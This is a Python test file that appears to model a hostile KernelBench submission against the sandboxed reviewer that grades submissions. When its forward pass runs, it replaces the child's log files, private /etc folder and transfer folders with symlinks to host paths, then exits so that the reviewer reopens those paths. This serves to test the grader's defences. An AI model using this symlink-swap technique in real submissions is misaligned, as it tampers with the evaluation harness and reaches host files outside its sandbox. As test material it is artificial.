"""Swaps the names the reviewer used to open by path in the child's writable folders for links to
host paths, then dies so that the reviewer restarts it: its stdout/stderr logs (the reviewer would
append the child's output to a host file and read a host file into the evidence), its private /etc
folder (the reviewer would write passwd/group into a host folder) and its transfer folders (the
reviewer would copy the case's inputs into a host folder). Expected: every host path untouched, the
host file's content nowhere in the answers, and a clear verdict (the child's crash)."""

import os
from pathlib import Path


def attack(t: dict) -> dict:
    here = Path.cwd()
    done = []

    def swap(name: Path, target: str) -> None:
        try:
            if name.is_dir() and not name.is_symlink():
                os.rename(name, name.with_name(name.name + ".old"))
            elif os.path.lexists(name):
                os.unlink(name)
            os.symlink(target, name)
            done.append(str(name))
        except OSError:
            pass

    swap(here / "stdout.log", t.get("write", "/nonexistent"))
    swap(here / "stderr.log", t.get("read", "/nonexistent"))
    swap(here / ".etc", t.get("folder", "/nonexistent"))
    xfer = here.parent / "xfer-submission"
    for d in sorted(xfer.iterdir()) if xfer.is_dir() else []:
        if d.is_dir() and not d.is_symlink():
            swap(d, t.get("folder", "/nonexistent"))
    print("KREVIEW-PLANTED " * 4, flush=True)
    return {"swapped": done}


# -- the same file is a KernelBench submission (the review runs it) and a stdlib script (the
# unprivileged run of the suite): it reports what it achieved, as JSON, in its exception.
def _targets() -> dict:
    import json

    p = Path(__file__).with_name("targets.json")
    return json.loads(p.read_text()) if p.exists() else {}


try:
    import torch.nn as _nn
except ImportError:  # run as a script
    _nn = None

if _nn is not None:
    class ModelNew(_nn.Module):
        def forward(self, x):
            attack(_targets())
            os._exit(3)  # the reviewer restarts the child: the moment it used to reopen the paths

if __name__ == "__main__":
    import json
    import sys

    print("KREVIEW-HOSTILE " + json.dumps(attack(json.loads(sys.argv[1]))))
